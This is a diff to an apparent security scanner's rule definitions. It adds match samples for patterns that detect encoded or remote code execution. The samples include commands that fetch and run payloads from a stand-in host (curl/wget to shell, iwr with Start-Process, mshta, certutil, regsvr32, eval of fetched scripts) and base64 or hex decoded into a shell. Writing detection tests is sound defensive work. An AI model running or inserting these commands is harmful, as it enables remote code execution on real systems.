@@ -49,7 +49,13 @@ export default defineRule({
         /\b(?:iex|invoke-expression)\b[^\n]{0,80}frombase64string/,
       ],
       reach: 420,
-      match: ['echo aGk= | base64 -d | bash', 'eval $(echo aGk= | base64 --decode)', 'exec(base64.b64decode("aGk="))'],
+      match: [
+        'echo 6c73 | xxd -r -p | sh',
+        'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))',
+        'echo aGk= | base64 -d | bash',
+        'eval $(echo aGk= | base64 --decode)',
+        'exec(base64.b64decode("aGk="))',
+      ],
       clean: [
         ['base64 -d secret.txt > secret.bin', 'decoded into a file'],
         ['data = base64.b64decode(payload)', 'data, not code'],
@@ -105,6 +111,7 @@ export default defineRule({
       ],
       reach: 420,
       match: [
+        'iwr https://a.example/x.exe -OutFile x.exe; Start-Process x.exe',
         'curl -so /tmp/.x http://a.example/x && chmod +x /tmp/.x && /tmp/.x',
         'wget http://a.example/u.sh -O /tmp/u.sh; bash /tmp/u.sh',
       ],
@@ -140,6 +147,9 @@ export default defineRule({
         /require\(\s?["']child_process["']\s?\)\s?\.\s?exec(?:sync)?\s?\(/,
       ],
       match: [
+        "https.get('https://a.example/x.js', (r) => eval(r))",
+        'python3 -c \'exec(urlopen("https://a.example/x.py").read())\'',
+        "require('child_process').execSync(body)",
         'eval "$(curl -s https://a.example/env)"',
         'exec(requests.get(url).text)',
         "__import__('os').system('id')",
@@ -174,6 +184,9 @@ export default defineRule({
       ],
       reach: 300,
       match: [
+        'mshta https://a.example/x.hta',
+        'certutil -split -urlcache -f https://a.example/x.exe',
+        'regsvr32 /s /n /i:https://a.example/x.sct scrobj.dll',
         'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4A',
         'IEX (New-Object Net.WebClient).DownloadString("http://a.example/p")',
         'irm http://a.example/p.ps1 | iex',
